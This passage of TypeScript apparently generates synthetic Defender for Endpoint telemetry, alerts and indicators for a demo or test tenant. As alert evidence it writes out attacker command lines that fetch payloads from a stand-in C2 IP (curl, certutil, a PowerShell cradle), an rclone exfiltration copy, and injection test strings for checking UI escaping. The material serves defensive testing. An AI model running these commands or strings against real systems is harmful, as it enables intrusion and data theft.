      const inbound = { ActionType: 'InboundConnectionAccepted', RemoteIP: ip, RemotePort: walk.int(1024, 65535), LocalPort: 443, InitiatingProcessFileName: 'System', InitiatingProcessFolderPath: '', InitiatingProcessCommandLine: '', InitiatingProcessAccountName: 'system' };
      for (let k = walk.int(1, 3); k > 0; k--) emitWalk(busy, from + walk.int(0, 6 * 24 * 3600 - 120) * 1000, inbound);
      if (i % 10 === 0) emitWalk(other, from + walk.int(0, 6 * 24 * 3600 - 120) * 1000, inbound);
    }
  }
  events.sort(byTimestamp);

  // --- alerts -----------------------------------------------------------------------------------------
  const alerts: StoryAlert[] = [];
  const newAlert = (m: StoryMachine, created: number, a: Partial<StoryAlert> & Pick<StoryAlert, 'title' | 'severity' | 'category'>): StoryAlert => {
    const alert: StoryAlert = {
      // Real alert ids are "da" + .NET ticks of the creation time + "_" + a signed 32-bit number.
      id: `da${(BigInt(created) * 10000n + 621355968000000000n).toString()}_${rng.chance(0.5) ? '-' : ''}${rng.int(100000000, 2147483647)}`,
      incidentId: rng.int(40000, 49999),
      investigationId: rng.chance(0.7) ? rng.int(900000, 999999) : null,
      description: '',
      status: 'New',
      classification: null,
      determination: null,
      investigationState: 'Running',
      detectionSource: 'WindowsDefenderAtp',
      detectorId: rng.uuid(),
      assignedTo: null,
      machineId: m.id,
      computerDnsName: m.computerDnsName,
      rbacGroupName: m.rbacGroupName,
      created,
      firstEvent: created - rng.int(1, 30) * MINUTE,
      lastEvent: created - rng.int(0, 59) * 1000,
      lastUpdate: created + rng.int(1, 120) * MINUTE,
      resolved: null,
      mitreTechniques: [],
      relatedUser: { userName: m.account, domainName: 'CONTOSO' },
      comments: [],
      evidence: [],
      localIp: ipAt(m, created),
      ...a,
    };
    if (alert.lastUpdate > anchor) alert.lastUpdate = anchor - MINUTE;
    alerts.push(alert);
    return alert;
  };
  const ipEvidence = (ip: string): StoryEvidence => ({ entityType: 'Ip', ipAddress: ip });
  const firstC2 = (m: StoryMachine): number =>
    (events.find((e) => e.DeviceId === m.id && e.RemoteIP === DEMO_C2_IP)?.Timestamp as number | undefined) ?? anchor - DAY;
  newAlert(holder, firstC2(holder) + 6 * MINUTE, {
    title: 'Connection to a suspicious remote host', severity: 'Medium', category: 'CommandAndControl', status: 'InProgress',
    description: 'A process on this device repeatedly contacted a host with a poor reputation.', assignedTo: 'soc.analyst@contoso.com',
    mitreTechniques: ['T1071', 'T1071.001'],
    comments: [{ comment: 'Escalated to IR', createdBy: 'soc.analyst@contoso.com', createdTime: firstC2(holder) + 2 * HOUR }],
    evidence: [ipEvidence(DEMO_C2_IP), { entityType: 'Process', fileName: 'rundll32.exe', filePath: 'C:\\Windows\\System32', processId: 7312, processCommandLine: 'rundll32.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.dll,#1', accountName: 'jdoe', sha1: '3a7bd3e2360a3d29eea436fcfb7e44c735d117c4' }],
  });
  newAlert(holder, anchor - 2 * DAY + 5 * HOUR, {
    title: 'Suspicious beaconing to a remote host', severity: 'High', category: 'CommandAndControl',
    description: `Periodic connections from rundll32.exe to ${DEMO_C2_IP} match a beaconing pattern.`, mitreTechniques: ['T1071', 'T1573'],
    evidence: [ipEvidence(DEMO_C2_IP), { entityType: 'Url', url: 'cdn-update.contoso-sync.example' }, { entityType: 'User', accountName: 'jdoe', domainName: 'CONTOSO' }],
  });
  newAlert(holder, firstC2(holder) + MINUTE, {
    title: 'Suspicious PowerShell download cradle', severity: 'High', category: 'Execution', status: 'InProgress', mitreTechniques: ['T1059.001', 'T1105'],
    description: 'PowerShell downloaded and ran a script from a remote host.',
    evidence: [ipEvidence(DEMO_C2_IP), { entityType: 'Process', fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', processId: 6120, processCommandLine: cradle, accountName: 'jdoe' }],
  });
  newAlert(previousHolder, firstC2(previousHolder) + 3 * MINUTE, {
    title: 'Suspicious PowerShell download cradle', severity: 'High', category: 'Execution', status: 'Resolved',
    classification: 'TruePositive', determination: 'Malware', investigationState: 'SuccessfullyRemediated', resolved: firstC2(previousHolder) + 20 * HOUR,
    description: 'PowerShell downloaded and ran a script from a remote host.', mitreTechniques: ['T1059.001', 'T1105'], assignedTo: 'ir.lead@contoso.com',
    evidence: [ipEvidence(DEMO_C2_IP), { entityType: 'Process', fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', processId: 4404, processCommandLine: cradle, accountName: 'mgarcia' }],
  });
  newAlert(hostile[0], firstC2(hostile[0]) + 4 * MINUTE, {
    title: `${HOSTILE_STRINGS.script} Connection to ${HOSTILE_STRINGS.bold} host ${HOSTILE_STRINGS.commandLink}`,
    severity: 'Medium', category: 'CommandAndControl',
    description: `${HOSTILE_STRINGS.img} ${HOSTILE_STRINGS.codicon} ${HOSTILE_STRINGS.backticks} ${HOSTILE_STRINGS.rtl} ${HOSTILE_STRINGS.long}`,
    relatedUser: { userName: HOSTILE_STRINGS.img, domainName: HOSTILE_STRINGS.bold }, mitreTechniques: ['T1071'],
    comments: [{ comment: HOSTILE_STRINGS.script, createdBy: HOSTILE_STRINGS.commandLink, createdTime: anchor - 2 * DAY }],
    evidence: [ipEvidence(DEMO_C2_IP), { entityType: 'Process', fileName: 'powershell.exe', processCommandLine: `powershell.exe -w hidden -c "${HOSTILE_STRINGS.script}"`, accountName: HOSTILE_STRINGS.img }],
  });
  newAlert(linuxC2, firstC2(linuxC2) + 2 * MINUTE, {
    title: 'Connection to a suspicious remote host', severity: 'Medium', category: 'CommandAndControl', detectionSource: 'WindowsDefenderAtp',
    description: `curl fetched a script from ${DEMO_C2_IP}.`, mitreTechniques: ['T1105'],
    evidence: [ipEvidence(DEMO_C2_IP), { entityType: 'Process', fileName: 'curl', filePath: '/usr/bin', processCommandLine: `curl -s http://${DEMO_C2_IP}/x.sh`, accountName: 'deploy' }],
  });
  newAlert(oldC2, firstC2(oldC2) + 10 * MINUTE, {
    title: 'Connection to a suspicious remote host', severity: 'Low', category: 'CommandAndControl', status: 'Resolved',
    classification: 'FalsePositive', determination: 'Other', investigationState: 'Benign', resolved: firstC2(oldC2) + DAY,
    description: 'certutil.exe downloaded a file from a remote host.', mitreTechniques: ['T1105'],
    evidence: [ipEvidence(DEMO_C2_IP), { entityType: 'Process', fileName: 'certutil.exe', filePath: 'C:\\Windows\\System32', processCommandLine: `certutil.exe -urlcache -split -f http://${DEMO_C2_IP}/p.bin`, accountName: 'svc-app' }],
  });
  newAlert(web1, anchor - 4 * DAY + 2 * HOUR + 5 * MINUTE, {
    title: 'Suspicious inbound connection attempts', severity: 'Low', category: 'InitialAccess', description: 'An external host probed several services on this server.',
    mitreTechniques: ['T1595'], evidence: [ipEvidence(DEMO_RARE_IPS.scanner)],
  });
  newAlert(exfil, anchor - 2 * DAY + 4 * HOUR + 30 * MINUTE, {
    title: 'Possible data exfiltration over HTTPS', severity: 'Medium', category: 'Exfiltration', description: 'rclone.exe uploaded a large amount of data to an unfamiliar host.',
    mitreTechniques: ['T1567.002'],
    evidence: [ipEvidence(DEMO_RARE_IPS.exfiltration), { entityType: 'Process', fileName: 'rclone.exe', filePath: 'C:\\Users\\pnovak\\Downloads', processCommandLine: 'rclone.exe copy C:\\Users\\pnovak\\Documents remote:backup', accountName: 'pnovak' }],
  });
  // Background alerts with no network evidence.
  const background: [string, StoryAlert['severity'], string][] = [
    ['Suspicious PowerShell command line', 'Medium', 'Execution'],
    ['EICAR test file detected', 'Informational', 'Malware'],
    ['Unwanted software was detected', 'Low', 'UnwantedSoftware'],
    ['Suspicious scheduled task created', 'Medium', 'Persistence'],
    ['Credential access attempt on LSASS', 'High', 'CredentialAccess'],
    ['Suspicious Office macro execution', 'Medium', 'Execution'],
  ];
  const quiet = machines.filter((m) => !c2Machines.has(m) && m.activeUntil === Infinity && m !== web1 && m !== exfil);
  for (let i = 0; i < 20; i++) {
    const [title, severity, category] = rng.pick(background);
    const created = anchor - rng.int(1, STORY_HISTORY_DAYS * 24 - 1) * HOUR;
    const m = rng.pick(quiet.filter((q) => q.firstSeen < created));
    const resolvedAlert = rng.chance(0.5);
    newAlert(m, created, {
      title, severity, category, status: resolvedAlert ? 'Resolved' : rng.pick(['New', 'InProgress'] as const),
      classification: resolvedAlert ? rng.pick(['TruePositive', 'FalsePositive', 'InformationalExpectedActivity']) : null,
      determination: resolvedAlert ? 'Other' : null, resolved: resolvedAlert ? created + rng.int(1, 48) * HOUR : null,
      investigationState: resolvedAlert ? 'Benign' : 'Running', detectionSource: category === 'Malware' ? 'WindowsDefenderAv' : 'WindowsDefenderAtp',
      evidence: [{ entityType: 'User', accountName: m.account, domainName: 'CONTOSO' }, { entityType: 'File', fileName: 'payload.ps1', filePath: `C:\\Users\\${m.account}\\Downloads`, sha1: rng.hex(40) }],
    });
  }
  for (const a of alerts) if (a.resolved !== null && a.resolved > anchor) a.resolved = anchor - MINUTE;
  alerts.sort((a, b) => b.created - a.created);
  for (const a of alerts) {
    const m = machineByName.get(a.computerDnsName.toLowerCase());
    if (m) m.riskScore = a.severity === 'High' ? 'High' : m.riskScore;
  }

  const { alertInfo, alertEvidence } = alertTables(alerts);
  return {
    seed,
    anchor,
    machines,
    leases: book.all.slice().sort((a, b) => a.from - b.from),
    networkInfo,
    networkEvents: events,
    alerts,
    alertInfo,
    alertEvidence,
    machineById: new Map(machines.map((m) => [m.id, m])),
    machineByName,
    eventsByIp: indexEvents(events),
    networkInfoByIp,
    alertsByIp: indexAlerts(alerts),
    indicators: storyIndicators(anchor),
  };
}

function storyIndicators(anchor: number): StoryIndicator[] {
  return [
    {
      id: '5101',
      indicatorValue: DEMO_INDICATOR_IPS.allowed,
      indicatorType: 'IpAddress',
      action: 'Allowed',
      title: 'Windows Update delivery',
      description: 'Known-good Microsoft update endpoint: keep it reachable from every device.',
      severity: 'Informational',
      generateAlert: false,
      recommendedActions: null,
      expirationTime: null,
      creationTime: anchor - 120 * DAY,
      createdBy: 'soc-lead@contoso.com',
      sourceType: 'User',
      rbacGroupNames: [],
    },
    {
      id: '5102',
      indicatorValue: DEMO_INDICATOR_IPS.audited,
      indicatorType: 'IpAddress',
      action: 'Audit',
      title: 'Internet scanner probing web-prd-01',
      description: 'Seen probing several services on the web servers; watched while the incident is open.',
      severity: 'Low',
      generateAlert: true,
      // Data from the tenant is shown as text everywhere: this must never become a link.
      recommendedActions: `Check the web server logs; ${HOSTILE_STRINGS.commandLink}`,
      expirationTime: Math.floor((anchor + 20 * DAY) / MINUTE) * MINUTE,
      creationTime: anchor - 4 * DAY + 3 * HOUR,
      createdBy: 'jdoe@contoso.com',
      sourceType: 'User',
      rbacGroupNames: ['Datacenter-Servers'],
    },
    {
      id: '5103',
      indicatorValue: '4d2f5a8c1e9b7d3f6a0c2e4b8d1f3a5c7e9b0d2f4a6c8e1b3d5f7a9c0e2b4d6f',
      indicatorType: 'FileSha256',
      action: 'Block',
      title: 'Ransomware loader (incident 48213)',
      description: 'Loader dropped by the phishing campaign.',
      severity: 'High',
      generateAlert: true,
      recommendedActions: 'Isolate the device and collect an investigation package.',
      expirationTime: null,
      creationTime: anchor - 30 * DAY,
      createdBy: 'ir-automation',
      sourceType: 'AadApp',
      rbacGroupNames: [],
    },
  ];
}

function byTimestamp(a: StoryRow, b: StoryRow): number {
  return (a.Timestamp as number) - (b.Timestamp as number);
}

function makeMachine(spec: MachineSpec, index: number, rng: SeededRandom, anchor: number): StoryMachine {
  const id = spec.fixedId ?? rng.hex(40);
  let osPlatform = 'Windows11';
  let version = '23H2';
  let osBuild: number | null = 22631;
  if (spec.kind === 'workstation' || spec.kind === 'laptop') {
    if (rng.chance(0.3)) [osPlatform, version, osBuild] = ['Windows10', '22H2', 19045];
  } else if (spec.kind === 'server') {
    [osPlatform, version, osBuild] = rng.chance(0.6) ? ['WindowsServer2022', '21H2', 20348] : ['WindowsServer2019', '1809', 17763];
  } else if (spec.kind === 'linux') {
    [osPlatform, version, osBuild] = ['Linux', rng.pick(['22.04', '24.04']), null];
  } else {
    [osPlatform, version, osBuild] = ['macOS', rng.pick(['14.5', '15.1']), null];
  }
  const isNew = index % 97 === 13;
  const firstSeen = isNew ? anchor - rng.int(5, 15) * DAY : anchor - rng.int(60, 900) * DAY - rng.int(0, 86399) * 1000;
  const inactive = !isNew && rng.chance(0.04);
  const activeUntil = inactive ? anchor - rng.int(10, 25) * DAY : Infinity;
  const lastSeen = inactive ? activeUntil - rng.int(1, 60) * MINUTE : anchor - rng.int(5, 20 * 60) * MINUTE;
  const mac = rng.hex(6).toUpperCase();
  const server = spec.kind === 'server' || spec.kind === 'linux';
  return {
    id,
    computerDnsName: spec.name,
    kind: spec.kind,
    firstSeen,
    lastSeen,
    activeUntil,
    osPlatform,
    version,
    osProcessor: 'x64',
    osArchitecture: '64-bit',
    osBuild,
    lastIpAddress: '',
    lastExternalIpAddress: spec.kind === 'laptop' && rng.chance(0.3) ? `203.0.113.${rng.int(100, 199)}` : DEMO_EGRESS_IP,
    healthStatus: inactive ? 'Inactive' : rng.chance(0.03) ? 'ImpairedCommunication' : 'Active',
    onboardingStatus: 'Onboarded',
    rbacGroupId: spec.groupId,
    rbacGroupName: spec.group,
    riskScore: rng.pick(['None', 'Low', 'Low', 'Medium', 'Informational']),
    exposureLevel: rng.pick(['Low', 'Medium', 'Medium', 'High']),
    deviceValue: server ? 'High' : rng.chance(0.1) ? 'Low' : 'Normal',
    isAadJoined: !server && spec.kind !== 'mac',
    aadDeviceId: server ? null : rng.uuid(),
    machineTags: [...spec.tags],
    macAddress: `00155D${mac}`,
    linkLocalIp: `fe80::${rng.hex(4).replace(/^0+(?=.)/, '')}:${rng.hex(4).replace(/^0+(?=.)/, '')}`,
    account: server ? 'svc-app' : rng.pick(FIRST_NAMES),
  };
}

const CONNECTED_NETWORKS = JSON.stringify([{ Name: 'corp.contoso.com', Category: 'Domain', IsConnectedToInternet: true }]);
const DNS_ADDRESSES = JSON.stringify([DEMO_DC_IP, '10.20.0.11']);

interface LeaseAddresses {
  json: string;
  list: string[];
}

function leaseAddresses(m: StoryMachine, ip: string): LeaseAddresses {
  const prefix = ip.startsWith('10.20.') || ip.startsWith('10.30.') || ip.startsWith('10.248.244.') ? 24 : 22;
  const addresses: { IPAddress: string; SubnetPrefix: number; AddressType: string }[] = [
    { IPAddress: ip, SubnetPrefix: prefix, AddressType: 'Private' },
    { IPAddress: m.linkLocalIp, SubnetPrefix: 64, AddressType: 'Private' },
  ];
  if (m.globalIpv6) addresses.push({ IPAddress: m.globalIpv6, SubnetPrefix: 64, AddressType: 'Public' });
  return { json: JSON.stringify(addresses), list: addresses.map((a) => a.IPAddress) };
}

function networkInfoRow(m: StoryMachine, ip: string, addresses: LeaseAddresses, t: number, reportId: number): StoryRow {
  const gateway = ip.startsWith('10.248.244.') ? MAC_POOL.gateway : ip.startsWith('10.248.') ? WORKSTATION_POOL.gateway : ip.replace(/\.\d+$/, '.1');
  const wireless = m.kind === 'laptop' || m.kind === 'mac';
  return {
    Timestamp: t,
    DeviceId: m.id,
    DeviceName: m.computerDnsName,
    NetworkAdapterName: wireless ? 'Wi-Fi' : 'Ethernet',
    MacAddress: m.macAddress,
    NetworkAdapterType: wireless ? 'Wireless80211' : 'Ethernet',
    NetworkAdapterStatus: 'Up',
    TunnelType: '',
    ConnectedNetworks: CONNECTED_NETWORKS,
    DnsAddresses: DNS_ADDRESSES,
    IPv4Dhcp: m.kind === 'server' || m.kind === 'linux' ? '' : '10.20.0.30',
    IPv6Dhcp: '',
    DefaultGateways: JSON.stringify([gateway]),
    IPAddresses: addresses.json,
    ReportId: reportId,
    NetworkAdapterVendor: 'Microsoft',
  };
}

function isPrivateV4(ip: string): boolean {
  return /^(10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)/.test(ip);
}

interface EventSpec {
  RemoteIP: string;
  RemotePort: number;
  RemoteUrl?: string;
  LocalIP?: string;
  LocalPort?: number;
  Protocol?: string;
  ActionType?: string;
  LocalIPType?: string;
  RemoteIPType?: string;
  InitiatingProcessFileName?: string;
  InitiatingProcessFolderPath?: string;
  InitiatingProcessCommandLine?: string;
  InitiatingProcessAccountName?: string;
}

type ProcessSpec = Pick<EventSpec, 'InitiatingProcessFileName' | 'InitiatingProcessFolderPath' | 'InitiatingProcessCommandLine' | 'InitiatingProcessAccountName'>;

const DNS_GOOGLE: EventSpec = { RemoteIP: DEMO_BENIGN_IPS.dnsGoogle, RemotePort: 53, Protocol: 'Udp' };
const DNS_CLOUDFLARE: EventSpec = { RemoteIP: DEMO_BENIGN_IPS.dnsCloudflare, RemotePort: 53, Protocol: 'Udp' };
const CDN: EventSpec = { RemoteIP: DEMO_BENIGN_IPS.cdn, RemotePort: 443, RemoteUrl: 'static.fabrikam-cdn.example' };
const WINDOWS_UPDATE: EventSpec = {
  RemoteIP: DEMO_BENIGN_IPS.windowsUpdate, RemotePort: 443, RemoteUrl: 'download.windowsupdate.com',
  InitiatingProcessFileName: 'svchost.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\svchost.exe',
  InitiatingProcessCommandLine: 'svchost.exe -k netsvcs -p -s wuauserv', InitiatingProcessAccountName: 'system',
};
const DOMAIN_CONTROLLER: EventSpec[] = [88, 389, 445].map((port) => ({
  RemoteIP: DEMO_DC_IP, RemotePort: port, RemoteUrl: 'dc-01.corp.contoso.com', RemoteIPType: 'Private',
  InitiatingProcessFileName: 'lsass.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\lsass.exe',
  InitiatingProcessCommandLine: 'lsass.exe', InitiatingProcessAccountName: 'system',
}));

const sha1Cache = new Map<string, string>();
/** The same binary has the same hash everywhere, as in real telemetry. */
function sha1Of(path: string): string {
  let h = sha1Cache.get(path);
  if (!h) {
    h = createHash('sha1').update(path).digest('hex');
    sha1Cache.set(path, h);
  }
  return h;
}

function networkEventRow(m: StoryMachine, t: number, localIp: string, rng: SeededRandom, e: EventSpec, p: ProcessSpec | undefined, reportId: number): StoryRow {
  // One literal shape for every row keeps generation fast.
  const folder = e.InitiatingProcessFolderPath ?? p?.InitiatingProcessFolderPath ?? '';
  return {
    Timestamp: t,
    DeviceId: m.id,
    DeviceName: m.computerDnsName,
    ActionType: e.ActionType ?? 'ConnectionSuccess',
    RemoteIP: e.RemoteIP,
    RemotePort: e.RemotePort,
    RemoteUrl: e.RemoteUrl ?? '',
    LocalIP: localIp,
    LocalPort: e.LocalPort ?? rng.int(49152, 65535),
    Protocol: e.Protocol ?? 'Tcp',
    LocalIPType: e.LocalIPType ?? (localIp.includes(':') ? 'Public' : 'Private'),
    RemoteIPType: e.RemoteIPType ?? (isPrivateV4(e.RemoteIP) ? 'Private' : 'Public'),
    InitiatingProcessSHA1: folder ? sha1Of(folder) : '',
    InitiatingProcessFileName: e.InitiatingProcessFileName ?? p?.InitiatingProcessFileName ?? 'unknown',
    InitiatingProcessFolderPath: folder,
    InitiatingProcessId: rng.int(400, 30000),
    InitiatingProcessCommandLine: e.InitiatingProcessCommandLine ?? p?.InitiatingProcessCommandLine ?? '',
    InitiatingProcessParentFileName: m.kind === 'linux' || m.kind === 'mac' ? 'bash' : 'explorer.exe',
    InitiatingProcessAccountDomain: 'contoso',
    InitiatingProcessAccountName: e.InitiatingProcessAccountName ?? p?.InitiatingProcessAccountName ?? m.account,
    ReportId: reportId,
  };
}

const PROCESSES = {
  resolved: { InitiatingProcessFileName: 'systemd-resolved', InitiatingProcessFolderPath: '/usr/lib/systemd/systemd-resolved', InitiatingProcessCommandLine: '/usr/lib/systemd/systemd-resolved', InitiatingProcessAccountName: 'systemd-resolve' },
  mdns: { InitiatingProcessFileName: 'mDNSResponder', InitiatingProcessFolderPath: '/usr/sbin/mDNSResponder', InitiatingProcessCommandLine: '/usr/sbin/mDNSResponder', InitiatingProcessAccountName: '_mdnsresponder' },
  dnscache: { InitiatingProcessFileName: 'svchost.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\svchost.exe', InitiatingProcessCommandLine: 'svchost.exe -k NetworkService -p -s Dnscache', InitiatingProcessAccountName: 'network service' },
  apt: { InitiatingProcessFileName: 'apt', InitiatingProcessFolderPath: '/usr/bin/apt', InitiatingProcessCommandLine: 'apt update', InitiatingProcessAccountName: 'root' },
  safari: { InitiatingProcessFileName: 'Safari', InitiatingProcessFolderPath: '/Applications/Safari.app/Contents/MacOS/Safari', InitiatingProcessCommandLine: '/Applications/Safari.app/Contents/MacOS/Safari' },
  edge: { InitiatingProcessFileName: 'msedge.exe', InitiatingProcessFolderPath: 'c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe', InitiatingProcessCommandLine: '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService' },
  chrome: { InitiatingProcessFileName: 'chrome.exe', InitiatingProcessFolderPath: 'c:\\program files\\google\\chrome\\application\\chrome.exe', InitiatingProcessCommandLine: '"chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService' },
} satisfies Record<string, ProcessSpec>;

function dnsProcess(m: StoryMachine): ProcessSpec {
  return m.kind === 'linux' ? PROCESSES.resolved : m.kind === 'mac' ? PROCESSES.mdns : PROCESSES.dnscache;
}

function browserProcess(m: StoryMachine, rng: SeededRandom): ProcessSpec {
  if (m.kind === 'linux') return PROCESSES.apt;
  if (m.kind === 'mac') return PROCESSES.safari;
  return rng.chance(0.7) ? PROCESSES.edge : PROCESSES.chrome;
}

function alertTables(alerts: StoryAlert[]): { alertInfo: StoryRow[]; alertEvidence: StoryRow[] } {
  const alertInfo: StoryRow[] = [];
  const alertEvidence: StoryRow[] = [];
  for (const a of alerts) {
    const common = {
      Timestamp: a.created,
      AlertId: a.id,
      Title: a.title,
      ServiceSource: 'Microsoft Defender for Endpoint',
      DetectionSource: 'EDR',
      AttackTechniques: JSON.stringify(a.mitreTechniques),
    };
    alertInfo.push({ ...common, Category: a.category, Severity: a.severity });
    const base = { ...common, Categories: JSON.stringify([a.category]), DeviceId: a.machineId, DeviceName: a.computerDnsName };
    const blank = { EvidenceDirection: '', RemoteIP: '', RemoteUrl: '', LocalIP: '', FileName: '', FolderPath: '', SHA1: '', ProcessCommandLine: '', AccountName: '', AccountDomain: '', AdditionalFields: '{}' };
    alertEvidence.push({ ...base, ...blank, EntityType: 'Machine', EvidenceRole: 'Impacted', LocalIP: a.localIp });
    for (const ev of a.evidence) {
      const row: StoryRow = { ...base, ...blank, EntityType: ev.entityType, EvidenceRole: 'Related' };
      if (ev.entityType === 'Ip') Object.assign(row, { RemoteIP: ev.ipAddress ?? '', LocalIP: a.localIp, EvidenceDirection: 'Destination' });
      if (ev.entityType === 'Url') Object.assign(row, { RemoteUrl: ev.url ?? '' });
      if (ev.entityType === 'Process' || ev.entityType === 'File') {
        Object.assign(row, { FileName: ev.fileName ?? '', FolderPath: ev.filePath ?? '', SHA1: ev.sha1 ?? '', ProcessCommandLine: ev.processCommandLine ?? '', AccountName: ev.accountName ?? '' });
      }
      if (ev.entityType === 'User') Object.assign(row, { AccountName: ev.accountName ?? '', AccountDomain: ev.domainName ?? '', EvidenceRole: 'Impacted' });
      alertEvidence.push(row);
    }
  }
  alertInfo.sort(byTimestamp);
  alertEvidence.sort(byTimestamp);
  return { alertInfo, alertEvidence };
}

function pushTo<V>(map: Map<string, V[]>, key: string, value: V): void {
  const list = map.get(key);
  if (list) list.push(value);
  else map.set(key, [value]);
}

function indexEvents(events: StoryRow[]): Map<string, StoryRow[]> {
  const map = new Map<string, StoryRow[]>();
  for (const e of events) {
    pushTo(map, e.RemoteIP as string, e);
    if (e.LocalIP !== e.RemoteIP) pushTo(map, e.LocalIP as string, e);
  }
  return map;
}

function indexAlerts(alerts: StoryAlert[]): Map<string, StoryAlert[]> {
  const map = new Map<string, StoryAlert[]>();
  for (const a of alerts) {
    for (const ip of new Set(a.evidence.filter((e) => e.entityType === 'Ip' && e.ipAddress).map((e) => e.ipAddress as string))) pushTo(map, ip, a);
  }
  return map;
}
